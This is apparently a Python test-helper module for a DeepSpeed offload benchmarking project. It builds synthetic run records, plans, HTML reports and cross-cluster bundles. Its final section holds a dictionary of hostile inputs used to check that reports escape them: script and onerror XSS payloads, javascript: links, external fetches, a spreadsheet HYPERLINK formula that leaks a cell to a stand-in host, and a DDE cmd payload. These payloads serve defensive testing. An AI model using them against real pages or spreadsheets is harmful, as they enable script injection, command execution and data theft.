"""Builders of run records for the tests: one place, instead of tests importing each other.

- records as the runner writes them (metrics.json, steps.csv, provenance.json) in a record
  folder: :func:`make_record` (and :func:`seed_like_records`, :func:`drifting_pair`), the
  collect CLI over them, a plan.json and the report made from them (:func:`build_report`);
- the committed H200 records under docs/results and their summary;
- real CPU runs on two "clusters", planned, run, collected, reported and bundled
  (:func:`cross_cluster_runs`; conftest's session fixture ``cross_cluster`` makes them once).
"""

from __future__ import annotations

import dataclasses
import json
import re
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pandas as pd
import yaml
from conftest import REPO, SMALL_LLAMA
from runs import runner_timeout

from offload_study.across import bundle
from offload_study.analysis import collect as C
from offload_study.analysis import report as R
from offload_study.core import contracts
from offload_study.planning.plan import Plan, write_scenario_files

# --------------------------------------------------------------------------- run records
STUDY, CLUSTER = "unit-study", "unit-cluster"


def make_record(
    root: Path,
    scenario: str,
    repeat: int = 0,
    *,
    outcome: str = "ok",
    tokens_per_s: float | None = 1000.0,
    offload_optimizer: str = "none",
    offload_param: str = "none",
    world_size: int = 8,
    gpus_per_node: int = 8,
    nodes: int = 1,
    gpu_mem_gb: float = 40,
    cpu_mem_gb: float = 64,
    peak_gpu_gib: float | None = 30.0,
    host_rss_gib: float | None = 20.0,
    gas: int = 4,
    label: str | None = None,
    base_scenario: str | None = None,
    sweep: dict | None = None,
    error_excerpt: str | None = None,
    n_steps: int = 8,
    step_noise: float = 0.02,
    steps: bool = True,
    breakdown: dict | None = None,
    nvme_bytes: int | None = None,
    slurm_job_id: str | None = None,
    seed: int = 0,
    step_loss: float | None = None,
    extra: dict | None = None,
) -> Path:
    """Write metrics.json (+ steps.csv, provenance.json) for one run; return the metrics path.

    ``step_loss`` replaces every measured step's loss; ``extra`` adds or replaces metrics keys.
    """
    d = Path(root) / "results" / CLUSTER / STUDY / scenario / f"rep{repeat}"
    d.mkdir(parents=True, exist_ok=True)
    ok = outcome == "ok"
    seq_len, micro = 128, 4
    global_batch = micro * gas * world_size
    tps = tokens_per_s if ok else None
    step_time = (global_batch * seq_len / tps) if tps else None
    if breakdown is None and ok:
        breakdown = {
            "forward": 100.0,
            "backward": 200.0,
            "backward_inner": 150.0,
            "backward_allreduce": 50.0,
            "step": 80.0 if offload_optimizer == "none" else 400.0,
            "optimizer_swap_in": None,
            "optimizer_swap_out": None,
        }
    host_rss_known = bool(ok and host_rss_gib)
    rank_rss_gib = host_rss_gib / gpus_per_node if host_rss_known else None
    m = {
        "schema_version": 1,
        "study": STUDY,
        "cluster": CLUSTER,
        "scenario": scenario,
        "base_scenario": base_scenario or scenario,
        "label": label if label is not None else f"ZeRO-3 {scenario}",
        "sweep": sweep or {},
        "repeat": repeat,
        "outcome": outcome,
        "error_excerpt": None if ok else (error_excerpt or f"RuntimeError: {outcome} happened"),
        "started_at": "2025-01-01T00:00:00Z",
        "finished_at": "2025-01-01T00:01:00Z",
        "wall_time_s": 60.0,
        "nodes": nodes,
        "gpus_per_node": gpus_per_node,
        "world_size": world_size,
        "accelerator": "cuda",
        "micro_batch": micro,
        "gradient_accumulation_steps": gas,
        "global_batch": global_batch,
        "seq_len": seq_len,
        "dtype": "bf16",
        "offload_optimizer": offload_optimizer,
        "offload_param": offload_param,
        "gpu_mem_gb": gpu_mem_gb,
        "cpu_mem_gb": cpu_mem_gb,
        "gradient_checkpointing": False,
        "model_params": 7_000_000,
        "gpu_mem_cap_gib": None,
        "device_name": "NVIDIA H200",
        "steps_measured": n_steps if ok else None,
        "step_time_s": step_time,
        "step_time_s_mean": step_time,
        "step_time_s_std": 0.01 if ok else None,
        "step_time_s_p10": step_time,
        "step_time_s_p90": step_time,
        "tokens_per_s": tps,
        "samples_per_s": (global_batch / step_time) if ok else None,
        "tflops_per_gpu": 100.0 * (tps or 0) / 1000 if ok else None,
        "peak_tflops": 989.0,
        "mfu": (100.0 * (tps or 0) / 1000 / 989.0) if ok else None,
        "loss_first": 10.0 if ok else None,
        "loss_last": 9.0 if ok else None,
        "peak_gpu_allocated_gib": peak_gpu_gib if ok else None,
        "peak_gpu_reserved_gib": (peak_gpu_gib + 2) if ok and peak_gpu_gib is not None else None,
        "nvml_used_gib": None,
        "host_peak_rss_gib_per_rank": [rank_rss_gib] * gpus_per_node if host_rss_known else [],
        "host_peak_rss_gib_per_node": [host_rss_gib] * nodes if host_rss_known else [],
        "host_peak_rss_gib": host_rss_gib if ok else None,
        "nvme_bytes_used": nvme_bytes,
        "breakdown_ms": breakdown,
        "ds_config_sha256": "ab" * 32,
        "deepspeed_version": "0.16.4",
        "torch_version": "2.5.1",
        "slurm_job_id": slurm_job_id,
        **(extra or {}),
    }
    (d / "metrics.json").write_text(json.dumps(m))
    if steps and ok:
        rng = np.random.default_rng(seed + repeat)
        rows = ["step,phase,step_time_s,tokens_per_s,samples_per_s,loss"]
        for i in range(2):
            rows.append(f"{i},warmup,{step_time * 3},{tps / 3},{global_batch / step_time / 3},10")
        for i in range(n_steps):
            t = tps * (1 + step_noise * rng.standard_normal())
            st = global_batch * seq_len / t
            loss = 9.5 - i * 0.1 if step_loss is None else step_loss
            rows.append(f"{i + 2},measured,{st},{t},{global_batch / st},{loss}")
        (d / "steps.csv").write_text("\n".join(rows) + "\n")
    contracts.write_json(d / contracts.PROVENANCE_FILE, provenance(gpus_per_node, slurm_job_id))
    return d / "metrics.json"


def gpu_calibration(cluster: str = "h200-1gpu", **fields) -> contracts.Calibration:
    """A CUDA cluster's calibration with round rates (an H200's order of magnitude); ``fields``
    replace or add rates."""
    rates = {
        "matmul_tflops": 700.0,
        "matmul_dtype": "bf16",
        "cpu_adam_params_per_s": 2e9,
        "cpu_adam_threads": 16,
        "torch_adam_params_per_s": 1e9,
        "h2d_gb_s": 50.0,
        "d2h_gb_s": 50.0,
    }
    return contracts.Calibration(
        cluster=cluster, accelerator="cuda", source="test", **{**rates, **fields}
    )


def provenance(gpus: int, slurm_job_id: str | None) -> dict:
    """provenance.json with the runner's keys (checked against the provenance schema)."""
    prov = {
        **dict.fromkeys(contracts.PROVENANCE_FIELDS),
        "host": "node001",
        "hosts": ["node001"],
        "gpu_model": "NVIDIA H200",
        "gpu_count": gpus,
        "gpus": [
            {"index": i, "name": "NVIDIA H200", "memory_total_bytes": 150754820096}
            for i in range(gpus)
        ],
        "torch_version": "2.5.1",
        "deepspeed_version": "0.16.4",
        "python_version": "3.11.7",
        "cpu_count": 64,
        "cpu_affinity": list(range(64)),
        "cores_granted": 64,
        "ram_total_bytes": 2**40,
        "slurm_job_id": slurm_job_id,
        "git_commit": "deadbeef",
        "git_dirty": False,
        "ds_config_sha256": "ab" * 32,
        "launch_env": {},
        "environment": {},
        "schema_problems": [],
        "platform": "Linux",
        "ds_config": "configs/s.json",
        "runner_peak_tree_rss_bytes": 2**33,
        "run_id": "s-rep0-1",
    }
    problems = contracts.schema_problems(prov, contracts.provenance_schema())
    assert not problems, problems
    return prov


def set_provenance(metrics_path: Path, **fields) -> Path:
    """Replace keys of the provenance.json beside ``metrics_path`` (say, the run's boot_id)."""
    path = metrics_path.parent / contracts.PROVENANCE_FILE
    prov = {**contracts.read_json(path), **fields}
    assert not contracts.schema_problems(prov, contracts.provenance_schema())
    contracts.write_json(path, prov)
    return metrics_path


def seed_like_records(root: Path) -> list[Path]:
    """Three scenarios shaped like the seed's table, 2 repeats each, plus one failed scenario."""
    paths = []
    offload = {"offload_optimizer": "cpu", "offload_param": "cpu", "cpu_mem_gb": 512}
    for r in range(2):
        paths += [
            make_record(root, "zero3-8gpu", r, tokens_per_s=8000, peak_gpu_gib=34),
            make_record(
                root,
                "zero3-offload-4gpu",
                r,
                tokens_per_s=2800,
                world_size=4,
                gpus_per_node=4,
                peak_gpu_gib=14,
                host_rss_gib=380,
                **offload,
            ),
            make_record(
                root,
                "zero3-offload-2gpu",
                r,
                tokens_per_s=1600,
                world_size=2,
                gpus_per_node=2,
                gpu_mem_gb=80,
                peak_gpu_gib=60,
                host_rss_gib=450,
                **offload,
            ),
        ]
    paths.append(
        make_record(
            root,
            "zero3-nvme",
            0,
            outcome="host_oom",
            offload_optimizer="nvme",
            world_size=2,
            gpus_per_node=2,
            error_excerpt="Killed: host memory exceeded 512GB",
        )
    )
    return paths


def run_collect_cli(paths, out: Path, baseline: str = "", n_boot: int = 300) -> int:
    """The collect CLI as the rule calls it: runs.csv, runs.parquet, summary.csv under out."""
    return C.main(
        [
            "--baseline",
            baseline,
            "--runs-csv",
            str(out / "runs.csv"),
            "--runs-parquet",
            str(out / "runs.parquet"),
            "--summary-csv",
            str(out / "summary.csv"),
            "--n-boot",
            str(n_boot),
            *map(str, paths),
        ]
    )


DRIFT = (1.0, 0.7, 1.3)  # the machine's speed at repeat k: both scenarios of a pair feel it


def drifting_pair(root, offload_speed: float = 500.0, base_speed: float = 1000.0) -> list:
    """A no-offload scenario and its offload twin (same settings), 3 repeats each, run k of
    both slowed alike by the machine's drift."""
    paths = []
    for k, drift in enumerate(DRIFT):
        paths.append(make_record(root, "base", k, tokens_per_s=base_speed * drift, seed=k))
        paths.append(
            make_record(
                root,
                "off",
                k,
                tokens_per_s=offload_speed * drift,
                offload_optimizer="cpu",
                seed=10 + k,
            )
        )
    return paths


def by_name(summary: pd.DataFrame) -> pd.DataFrame:
    return summary.set_index("scenario")


# --------------------------------------------------------------------------- reports
SEED_REFS = {
    "zero3-8gpu": {"speed_pct": 100, "gpu_memory": "40GB × 8", "cpu_memory": "64GB"},
    "zero3-offload-4gpu": {"speed_pct": 35, "gpu_memory": "40GB × 4", "cpu_memory": "512GB"},
    "zero3-offload-2gpu": {"speed_pct": 20, "gpu_memory": "80GB × 2", "cpu_memory": "512GB"},
}
LABELS = {
    "zero3-8gpu": "ZeRO-3 (8 GPU)",
    "zero3-offload-4gpu": "ZeRO-3 + Offload (4 GPU)",
    "zero3-offload-2gpu": "ZeRO-3 + Offload (2 GPU)",
    "zero3-nvme": "ZeRO-3 + NVMe optimizer offload (2 GPU)",
}


def make_plan(root: Path, metrics_paths: list[Path], labels: dict | None = None) -> Path:
    """plan.json (+ DeepSpeed configs and run specs) for the scenarios of metrics_paths."""
    labels = {**LABELS, **(labels or {})}
    cfg = Path(root) / "results" / CLUSTER / STUDY / "configs"
    cfg.mkdir(parents=True, exist_ok=True)
    scenarios = []
    for p in metrics_paths:
        name = Path(p).parent.parent.name
        if any(s["name"] == name for s in scenarios):
            continue
        try:
            m = json.loads(Path(p).read_text())
        except (OSError, ValueError):
            m = {}
        ds = {
            "train_batch_size": m.get("global_batch", 128),
            "gradient_accumulation_steps": m.get("gradient_accumulation_steps", 4),
            "zero_optimization": {
                "stage": 3,
                "reduce_bucket_size": 5e8,
                "offload_optimizer": {"device": m.get("offload_optimizer", "none")},
            },
            "bf16": {"enabled": True},
        }
        ds_path = cfg / f"{name}.json"
        ds_path.write_text(json.dumps(ds))
        spec_path = cfg / f"{name}.run.json"
        spec_path.write_text(json.dumps({"schema_version": 1, "scenario": name}))
        gpn = m.get("gpus_per_node", 8)
        scenarios.append(
            {
                "name": name,
                "base_scenario": name,
                "label": labels.get(name, m.get("label", name)),
                "nodes": m.get("nodes", 1),
                "gpus_per_node": gpn,
                "gpu_mem_gb": m.get("gpu_mem_gb", 40),
                "cpu_mem_gb": m.get("cpu_mem_gb", 64),
                "offload_optimizer": m.get("offload_optimizer", "none"),
                "offload_param": m.get("offload_param", "none"),
                "sweep": m.get("sweep", {}),
                "reference": {**SEED_REFS[name], "source": "seed"} if name in SEED_REFS else None,
                "ds_config": str(ds_path),
                "run_spec": str(spec_path),
            }
        )
    plan = {
        "study": STUDY,
        "cluster": CLUSTER,
        "description": "Seed table reproduction (unit test records)",
        "baseline": None,
        "scenarios": scenarios,
    }
    out = Path(root) / "plan.json"
    out.write_text(json.dumps(plan))
    return out


def build_report(tmp_path: Path, paths: list[Path], baseline: str = "", others=(), labels=None):
    """collect + report CLIs on paths; return (html text, figures dir, report path)."""
    out = tmp_path / "out"
    run_collect_cli(paths, out, baseline)
    plan = make_plan(tmp_path, paths, labels)
    html_path = tmp_path / "reports" / STUDY / "report.html"
    figs = tmp_path / "reports" / STUDY / "figures"
    args = [
        "--runs",
        str(out / "runs.csv"),
        "--summary",
        str(out / "summary.csv"),
        "--plan",
        str(plan),
        "--out",
        str(html_path),
        "--figures-dir",
        str(figs),
    ]
    for o in others:
        args += ["--other-cluster-summary", str(o)]
    assert R.main(args) == 0
    return html_path.read_text(), figs, html_path


def assert_self_contained(html: str) -> None:
    assert not re.search(r"""(src|href)\s*=\s*["']?\s*(https?:)?//""", html, re.I)
    assert "http://" not in html and "https://" not in html
    assert "<link" not in html.lower() and "@import" not in html and "url(" not in html


# --------------------------------------------------------------------------- committed H200 records
RESULTS = REPO / "docs" / "results" / "h200-1gpu"
#: The first, 1-repeat measurement (1 warm-up + 6 steps), kept where the flag was first seen.
H200 = RESULTS / "model-a-2026-11-29-superseded"
#: Its re-measurement (adaptive stop, 3 interleaved repeats).
H200_REMEASURED = RESULTS / "model-a"


def h200_summary(folder: Path = H200) -> pd.DataFrame:
    plan = json.loads((folder / "plan.json").read_text())
    paths = [
        folder / s["name"] / f"rep{k}" / "metrics.json"
        for s in plan["scenarios"]
        for k in range(plan["repeats"])
    ]
    _, s = C.collect(paths, baseline=plan["baseline"], n_boot=2000)
    return s.set_index("scenario")


# --------------------------------------------------------------------------- cross-cluster runs
XC_STUDY = "xc"
#: cluster -> cores granted to each of its runs (what makes the two clusters differ)
CORES = {"cpu-a": 2, "cpu-b": 1}
SCENARIOS = [
    {"name": "zero3", "label": "ZeRO-3, no offload", "gpus_per_node": 1, "cpu_mem_gb": 8},
    {
        "name": "offload-opt",
        "label": "ZeRO-3 + CPU optimizer offload",
        "gpus_per_node": 1,
        "cpu_mem_gb": 8,
        "offload_optimizer": "cpu",
    },
]


@dataclass(frozen=True)
class CrossCluster:
    root: Path  # the working tree the runs were made in (results/, reports/)
    bundles: dict[str, Path]  # cluster -> its bundle


def study_config(cluster: str) -> dict:
    return {
        "study": XC_STUDY,
        "cluster": cluster,
        "model": {"config": dict(SMALL_LLAMA)},
        "seq_len": 64,
        "dtype": "bf16",
        "global_batch": 4,
        "micro_batch": 2,
        "gradient_checkpointing": False,
        "steps": 3,
        "warmup_steps": 1,
        "repeats": 1,
        "timeout_min": 5,
        "scenarios": SCENARIOS,
    }


def write_clusters(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, cores in CORES.items():
        description = f"CPU test cluster granting {cores} core(s) per run"
        cluster = {
            "name": name,
            "description": description,
            "accelerator": "cpu",
            "gpus_per_node": 2,
            "cpu_cores_per_node": cores,
        }
        (folder / f"{name}.yaml").write_text(yaml.safe_dump(cluster))
    return folder


def run_study(root: Path, cluster: str, cluster_dir: Path) -> Path:
    """Plan, run, collect and report the study on ``cluster`` as the rules do; bundle it."""
    plan = Plan(study_config(cluster), cluster_dir=cluster_dir, source="test study")
    results = root / plan.results_dir
    paths = []
    for scenario in plan.scenarios:
        spec, ds_config = (results / "configs" / f"{scenario}{s}" for s in (".run.json", ".json"))
        write_scenario_files(plan.run_spec(scenario), str(ds_config), str(spec))
        outdir = results / scenario / "rep0"
        cmd = [
            sys.executable,
            "-m",
            "offload_study.training.runner",
            "--spec",
            str(spec),
            "--repeat",
            "0",
            "--outdir",
            str(outdir),
            "--cores",
            str(CORES[cluster]),
        ]
        res = subprocess.run(cmd, capture_output=True, text=True, timeout=runner_timeout(spec))
        assert res.returncode == 0, res.stdout[-3000:] + res.stderr[-3000:]
        paths.append(outdir / contracts.METRICS_FILE)
    contracts.write_json(results / "plan.json", plan.summary())
    tables = {k: str(results / k) for k in ("runs.csv", "runs.parquet", "summary.csv")}
    collect_args = [
        "--baseline",
        plan.baseline,
        "--runs-csv",
        tables["runs.csv"],
        "--runs-parquet",
        tables["runs.parquet"],
        "--summary-csv",
        tables["summary.csv"],
        *map(str, paths),
    ]
    assert C.main(collect_args) == 0
    report = root / bundle.report_path(XC_STUDY)
    report_args = [
        "--runs",
        tables["runs.csv"],
        "--summary",
        tables["summary.csv"],
        "--plan",
        str(results / "plan.json"),
        "--out",
        str(report),
        "--figures-dir",
        str(report.parent / "figures"),
    ]
    assert R.main(report_args) == 0
    out = root / "bundles" / f"{bundle.bundle_name(XC_STUDY, cluster)}{bundle.SUFFIX}"
    bundle_args = [
        "create",
        "--root",
        str(root),
        "--cluster",
        cluster,
        "--study",
        XC_STUDY,
        "--report",
        str(report),
        "--out",
        str(out),
    ]
    assert bundle.main(bundle_args) == 0
    return out


def cross_cluster_runs(root: Path) -> CrossCluster:
    """Four real CPU runs (2 scenarios x 2 clusters) under ``root``, each cluster's bundled: the
    records of conftest's session fixture ``cross_cluster``."""
    clusters = write_clusters(root / "clusters")
    return CrossCluster(root, {name: run_study(root, name, clusters) for name in CORES})


# --------------------------------------------------------------------------- a malicious bundle
#: What another cluster's records may hold where the pages show text: a marker script (it would
#: set the page's title to MARKER), event handlers, javascript: and external URLs, and cells a
#: spreadsheet would run as formulas.
MARKER = "pwned"
EVIL = {
    "script": f"<script>document.title='{MARKER}'</script>",
    "handler": f"<img src=x onerror=\"document.title='{MARKER}'\">",
    "link": f"<a href=\"javascript:document.title='{MARKER}'\">click</a> javascript:alert(1)",
    "fetch": '<img src="http://127.0.0.1:9/leak.png"><link rel=stylesheet href=https://x.invalid/a.css>',
    "formula": '=HYPERLINK("https://x.invalid/?leak="&A1,"open")',
    "dde": "@SUM(1+1)*cmd|' /c calc'!A1",
    "tab": "\t=1+1",
}
EVIL_SCENARIOS = {"base": EVIL["script"], "-cmd": EVIL["formula"], "bad": EVIL["handler"]}


def malicious_study(root: Path) -> Path:
    """A study on unit-cluster whose labels, hosts, GPU and CPU models, error excerpt and plan.csv
    carry EVIL (no training: records as the runner writes them); its report rendered by the
    report CLI. Returns the study folder (results/unit-cluster/unit-study)."""
    paths = []
    for name, label in EVIL_SCENARIOS.items():
        outcome = "error" if name == "bad" else "ok"
        excerpt = f"Traceback {EVIL['link']} {EVIL['fetch']} {EVIL['dde']}"
        metrics = make_record(
            root,
            name,
            label=label,
            outcome=outcome,
            error_excerpt=excerpt,
            tokens_per_s=1000.0 if name == "base" else 600.0,
        )
        set_provenance(
            metrics,
            host=EVIL["tab"] + EVIL["script"],
            hosts=[EVIL["fetch"]],
            gpu_model=EVIL["link"],
            cpu_model=EVIL["dde"],
        )
        paths.append(metrics)
    study = paths[0].parent.parent.parent
    plan = {
        "study": STUDY,
        "cluster": CLUSTER,
        "description": EVIL["fetch"],
        "repeats": 1,
        "baseline": "base",
        "model": {"config": {"model_type": EVIL["script"]}},
        "scenarios": [{"name": n, "label": label} for n, label in EVIL_SCENARIOS.items()],
    }
    contracts.write_json(study / "plan.json", plan)
    fields = {f.name: None for f in dataclasses.fields(contracts.Prediction)}
    contracts.write_predictions(
        study / contracts.PLAN_CSV,
        [
            contracts.Prediction(
                **{
                    **fields,
                    "scenario": n,
                    "predict_only": False,
                    "force": False,
                    "world_size": 8,
                    "feasible": n != "bad",
                    "reason": EVIL["dde"],
                }
            )
            for n in EVIL_SCENARIOS
        ],
    )
    assert run_collect_cli(paths, study) == 0
    report = root / bundle.report_path(STUDY)
    report_args = [
        "--runs",
        str(study / "runs.csv"),
        "--summary",
        str(study / "summary.csv"),
        "--plan",
        str(study / "plan.json"),
        "--out",
        str(report),
        "--figures-dir",
        str(report.parent / "figures"),
    ]
    assert R.main(report_args) == 0
    return study
